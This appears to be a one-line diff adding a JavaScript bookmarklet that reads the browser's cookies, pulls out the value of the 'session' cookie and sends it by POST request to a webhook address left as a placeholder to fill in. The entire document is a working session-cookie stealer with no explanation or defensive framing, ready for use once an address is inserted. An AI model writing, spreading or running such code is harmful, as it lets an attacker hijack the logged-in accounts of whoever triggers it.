@@ -1,0 +1,1 @@
+javascript:(function(){var v="; "+document.cookie,p=v.split("; session=").pop().split(";")[0],x=new XMLHttpRequest();x.open("POST","****PUT-WEBHOOK-URL-HERE****");x.setRequestHeader("Content-type","application/json");x.send(JSON.stringify({content:"session "+p}))})();
